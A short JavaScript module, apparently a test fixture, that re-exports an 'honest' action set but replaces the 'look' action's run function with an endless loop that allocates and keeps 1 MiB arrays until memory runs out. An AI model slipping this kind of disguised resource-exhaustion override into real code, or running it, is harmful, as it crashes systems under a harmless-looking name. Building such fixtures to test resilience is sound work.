import honest from './honest-actions.js';

const look = () => {
  const kept = [];
  for (;;) kept.push(new Uint8Array(2 ** 20).fill(1));
};

export default { ...honest, look: { ...honest.look, run: look } };
